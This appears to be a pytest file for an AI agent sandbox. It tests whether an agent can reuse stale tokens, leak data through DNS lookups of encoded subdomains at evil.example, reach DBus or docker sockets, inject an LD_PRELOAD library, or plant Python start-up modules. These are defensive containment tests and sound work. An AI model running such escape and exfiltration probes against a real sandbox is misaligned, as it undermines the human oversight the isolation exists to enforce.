"""From an agent's place, as its user: tokens that are over, names of hosts, buses, preloaded code, floods."""

from __future__ import annotations

import socket
import sys
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from hive.app.isolation import agent_place
from hive.decisions.recall import recall
from hive.facts import intents as i
from hive.facts.agents import session_name
from hive.facts.events import (
    Event,
    IncidentRaised,
    IntentFinished,
    IntentStarted,
    Noticed,
    Record,
    TokenIssued,
    TokenRefused,
)
from hive.facts.isolation import IsolationMode, IsolationOptions
from hive.facts.memory import Memory
from hive.kernel.tokens import digest_of, token_holder
from hive.ports.authority import Identity
from tests.app.places_for_tests import Hive, a_hive
from tests.fakes.authority import NOW, FakeAuthority
from tests.gateway.place import identity
from tests.shells.isolation.places import need

PYTHON = (sys.executable, "-c")
ASK = (
    "import os, socket, sys\n"
    "for token in sys.argv[1:]:\n"
    "    peer = socket.socket(socket.AF_UNIX); peer.connect(os.environ['HIVE_GATEWAY_SOCKET'])\n"
    "    peer.sendall(f'GET /nothing HTTP/1.1\\r\\nHost: hive.invalid\\r\\n"
    "Authorization: token {token}\\r\\n\\r\\n'.encode())\n"
    "    print(peer.recv(64).split()[1].decode())\n"
)


@dataclass
class TokensOfTheJournal(FakeAuthority):
    """Knows agents by what was recorded of their tokens, as hive does; `told` is when and what."""

    told: list[tuple[datetime, Event]] = field(default_factory=list)
    now: datetime = NOW

    def identify(self, token: str) -> Identity | None:
        records = [Record(seq, at, 0, event) for seq, (at, event) in enumerate(self.told, 1)]
        found = token_holder(recall(Memory(), records).agents, token, self.now)
        return identity(found[0]) if found else None

    def issue(self, token: str, generation: int = 1, *, agent: str = "a", renews: bool = False) -> None:
        event = TokenIssued(
            agent=agent, digest=digest_of(token), generation=generation, life_s=3600, renews=renews
        )
        self.told.append((self.now, event))


@pytest.fixture(scope="module")
def hive(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Hive]:
    need(IsolationMode.UID)
    options = IsolationOptions(mode=IsolationMode.UID)
    made = a_hive(tmp_path_factory.mktemp("other-ways"), options, TokensOfTheJournal())
    yield made
    made.close()


@pytest.fixture
def tokens(hive: Hive) -> TokensOfTheJournal:
    assert isinstance(hive.authority, TokensOfTheJournal)
    hive.authority.told.clear()
    hive.authority.now = NOW
    return hive.authority


def answers(hive: Hive, *tokens: str) -> list[str]:
    """401 for nobody's; 403 is hive's own word to an agent that it knows."""
    return hive.run(*PYTHON, ASK, *tokens, timeout=60).out.split()


def test_a_token_of_an_earlier_start_is_nobodys_and_one_renewed_in_place_lives_to_its_end(
    hive: Hive, tokens: TokensOfTheJournal
) -> None:
    tokens.issue("hive_first")
    tokens.issue("hive_second", generation=2)
    tokens.now = NOW + timedelta(minutes=30)
    tokens.issue("hive_renewed", generation=2, renews=True)
    assert answers(hive, "hive_first", "hive_second", "hive_renewed") == ["401", "403", "403"]
    tokens.now = NOW + timedelta(minutes=61)
    assert answers(hive, "hive_second", "hive_renewed") == ["401", "403"]
    tokens.now = NOW + timedelta(minutes=91)
    assert answers(hive, "hive_renewed") == ["401"]
    assert tokens.events_of(TokenRefused)[0].address == "agent a"


@pytest.mark.parametrize("end", ["stopped", "suspected"])
def test_a_revoked_token_is_nobodys(hive: Hive, tokens: TokensOfTheJournal, end: str) -> None:
    tokens.issue("hive_now")
    assert answers(hive, "hive_now") == ["403"]
    if end == "stopped":
        stop = i.StopAgent(agent="a", session=session_name("a"), generation=1)
        done = IntentFinished(intent_id=stop.id, about=stop.subject, outcome="done")
        tokens.told += [(NOW, IntentStarted(intent_id=stop.id, body=stop)), (NOW, done)]
    else:
        raised = IncidentRaised(incident_id="X1", what="push", repo="o/r", number=0, agent="a", evidence="e")
        tokens.told.append((NOW, raised))
    assert answers(hive, "hive_now") == ["401"]


def test_another_agents_token_is_nobodys_even_when_the_digest_of_one_is_shown(
    hive: Hive, tokens: TokensOfTheJournal
) -> None:
    tokens.issue("hive_of_b", agent="b")
    assert answers(hive, "hive_of_b", digest_of("hive_of_b"), "") == ["401"] * 3


def test_no_question_about_a_name_leaves_the_place(hive: Hive) -> None:
    """Over port 53, by UDP and TCP, to name servers near and far; and by the machine's own resolver."""
    near = [
        line.split()[1] for line in Path("/etc/resolv.conf").read_text().splitlines() if "nameserver" in line
    ]
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as server:
        server.bind(("127.0.0.1", 0))
        server.settimeout(0.2)
        own = server.getsockname()[1]
        targets = [(host, 53) for host in (*near, "127.0.0.1", "127.0.0.53", "1.1.1.1", "::1")]
        script = (
            "import socket\n"
            "ask = bytes.fromhex('abcd01000001000000000000')\n"
            "ask += b'\\x06secret\\x07example\\x00\\x00\\x01\\x00\\x01'\n"
            f"for host, port in {[*targets, ('127.0.0.1', own)]!r}:\n"
            "    for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):\n"
            "        try:\n"
            "            peer = socket.socket(socket.AF_INET6 if ':' in host else socket.AF_INET, kind)\n"
            "            peer.settimeout(0.3); peer.connect((host, port)); peer.send(ask)\n"
            "            print(host, kind, peer.recv(4))\n"
            "        except OSError: pass\n"
            "try: print(socket.getaddrinfo('secret.example.com', 443))\n"
            "except OSError: print('unknown')\n"
        )
        assert hive.run(*PYTHON, script, timeout=60).out == "unknown\n"
        with pytest.raises(TimeoutError):
            server.recv(100)


def test_hive_asks_for_no_name_on_an_agents_behalf_that_nobody_allowed(
    hive: Hive, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A name is a message to whoever answers for its domain."""
    asked: list[str] = []
    real = socket.getaddrinfo

    def listening(host: Any, *rest: Any, **more: Any) -> Any:
        asked.append(str(host))
        return real(host, *rest, **more)

    monkeypatch.setattr(socket, "getaddrinfo", listening)
    monkeypatch.setattr(socket, "gethostbyname", listening)
    script = (
        "import socket, sys\n"
        f"peer = socket.create_connection(('127.0.0.1', {hive.gateway.port}), timeout=20)\n"
        "peer.sendall(f'CONNECT {sys.argv[1]} HTTP/1.1\\r\\nHost: {sys.argv[1]}\\r\\n\\r\\n'.encode())\n"
        "print(peer.recv(12).decode())\n"
    )
    targets = ("c2VjcmV0.evil.example:443", "c2VjcmV0.evil.example:53", "github.com.evil.example:443")
    for target in targets:
        assert hive.run(*PYTHON, script, target).out == "HTTP/1.1 403\n"
    assert asked == []
    told = [(event.about, event.message) for event in hive.authority.events_of(Noticed)]
    assert told == [("a", f"tried to reach CONNECT {target}, which is not allowed") for target in targets]


def test_no_bus_of_the_machine_is_reached_by_its_file_or_its_abstract_name(
    hive: Hive, tmp_path: Path
) -> None:
    name = f"hive-bus-{tmp_path.name}"
    with socket.socket(socket.AF_UNIX) as abstract, socket.socket(socket.AF_UNIX) as file:
        abstract.bind(f"\0{name}")
        path = Path("/tmp") / name  # where sessions' buses are
        file.bind(str(path))
        try:
            path.chmod(0o777)
            for listener in (abstract, file):
                listener.listen()
                listener.setblocking(False)
            ways = [
                f"DBUS_SESSION_BUS_ADDRESS=unix:abstract={name}",
                f"DBUS_SESSION_BUS_ADDRESS=unix:path={path}",
                "DBUS_SESSION_BUS_ADDRESS=unix:path=/run/user/0/bus",
                "DBUS_SYSTEM_BUS_ADDRESS=unix:path=/run/dbus/system_bus_socket",
                "DBUS_SESSION_BUS_ADDRESS=unixexec:path=/bin/sh,argv1=-c,argv2=true",
            ]
            script = (
                "import os, socket\n"
                f"for at in ({name!r}.join(('\\0', '')), {str(path)!r}, '/run/dbus/system_bus_socket',\n"
                "        '/var/run/dbus/system_bus_socket', '/run/systemd/private', '/run/docker.sock',\n"
                "        '/var/run/docker.sock', '/run/containerd/containerd.sock'):\n"
                "    try: socket.socket(socket.AF_UNIX).connect(at); print('reached', at)\n"
                "    except OSError: pass\n"
            )
            assert hive.run(*PYTHON, script).out == ""
            for way in ways:
                bus = "--system" if "SYSTEM" in way else "--session"
                name_of = "--dest=org.freedesktop.DBus / org.freedesktop.DBus.ListNames"
                send = f"{way} timeout 10 dbus-send {bus} --print-reply {name_of}"
                assert hive.shell(send)[0] != 0, way
            for listener in (abstract, file):
                with pytest.raises(BlockingIOError):
                    listener.accept()
        finally:
            path.unlink()


def test_preloaded_code_gets_the_rights_of_the_agent_and_none_of_hives(hive: Hive) -> None:
    """``LD_PRELOAD``: into its own programs, setuid ones too, and into nothing that hive starts for it."""
    source = (
        "#include <stdio.h>\n#include <stdlib.h>\n#include <unistd.h>\n"
        "__attribute__((constructor)) static void here(void) {\n"
        '    FILE *out = fopen(getenv("PROOF"), "a");\n'
        '    if (out) { fprintf(out, "%d %d\\n", (int)getuid(), (int)geteuid()); fclose(out); }\n}\n'
    )
    build = "cat > ~/p.c && cc -shared -fPIC -o ~/p.so ~/p.c"
    code, said = hive.shell(build, stdin=source)
    if code != 0:
        pytest.skip(f"no compiler here: {said}")
    home = hive.places.agent("a")
    hive.shell(
        "export PROOF=$HOME/proof LD_PRELOAD=$HOME/p.so; id; su -c id </dev/null; gh --version; git version"
    )
    uid = home.stat().st_uid
    lines = (home / "proof").read_text().splitlines()
    assert len(lines) > 3
    assert set(lines) == {f"{uid} {uid}"}
    before = len(lines)
    # What hive starts there gets its environment from hive, whatever the agent wrote into files of its own.
    hive.shell(
        "for f in .profile .bashrc .pam_environment; do echo export LD_PRELOAD=$HOME/p.so >> ~/$f; done"
    )
    seen = agent_place(
        hive.isolation,
        "a",
        ("sh", "-c", "env"),
        proxy_url=hive.gateway.proxy_url,
        environment=hive.ready["a"].launch.environment,
    )
    assert "LD_PRELOAD" not in seen.out
    assert len((home / "proof").read_text().splitlines()) == before
    assert not Path("/etc/ld.so.preload").exists()


def test_hives_own_launcher_takes_nothing_from_the_folders_of_an_agent(hive: Hive) -> None:
    """Python's own ways in: user site, a module of a known name where it starts, start-up files."""
    planted = (
        "for d in ~ ~/work ~/.local/lib/python3.11/site-packages; do mkdir -p $d; "
        "for n in sitecustomize usercustomize json ctypes os socket; do "
        "echo 'open(\"/proc/self/status\").read(); raise SystemExit(77)' > $d/$n.py; done; done"
    )
    assert hive.shell(planted) == (0, "")
    done = hive.run("sh", "-c", "echo on")
    assert (done.code, done.out) == (0, "on\n")
    hive.shell("rm -rf ~/*.py ~/work/*.py ~/.local/lib")
